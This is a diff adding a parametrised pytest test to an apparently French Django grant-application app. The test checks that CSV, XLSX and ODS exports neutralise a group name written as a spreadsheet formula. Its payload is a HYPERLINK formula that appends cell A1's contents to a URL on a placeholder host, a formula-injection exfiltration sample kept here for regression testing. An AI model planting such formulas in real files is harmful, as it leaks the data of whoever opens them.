@@ -180,3 +180,25 @@ def test_batch_refusal_needs_a_comment_and_scope(client, agent, file):
     client.post(reverse("candidatures:decision_lot"),
                 {"dossiers": [file.c.pk], "decision": "classer_sans_suite", "commentaire": "Retrait du porteur"})
     assert Dossier.objects.get(pk=file.c.pk).motif_decision == "Retrait du porteur"
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx", "ods"])
+def test_a_grappe_named_as_a_formula_is_inert_in_the_agent_export(client, agent, file, format):
+    """Issue 9, point 2: a porteur names its grappe `=HYPERLINK(...)`; the ARS agent's export holds text."""
+    piege = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+    file.b.grappe.nom = piege
+    file.b.grappe.save(update_fields=["nom"])
+    client.force_login(agent)
+    response = client.get(reverse("candidatures:export", args=[format]), {"etat": "depose", "tri": "-montant"})
+    if format == "xlsx":
+        feuille = load_workbook(io.BytesIO(response.content)).active
+        ligne = [cellule for cellule in feuille[2]]
+        assert ligne[4].value == "'" + piege and ligne[4].data_type == "s"
+        assert ligne[9].value == 90000 and ligne[9].data_type == "n"  # numbers stay numbers
+    elif format == "csv":
+        import csv as module_csv
+
+        lignes = list(module_csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+        assert lignes[1][4] == "'" + piege
+    else:
+        assert _lignes(response, format)[1][4] == "'" + piege
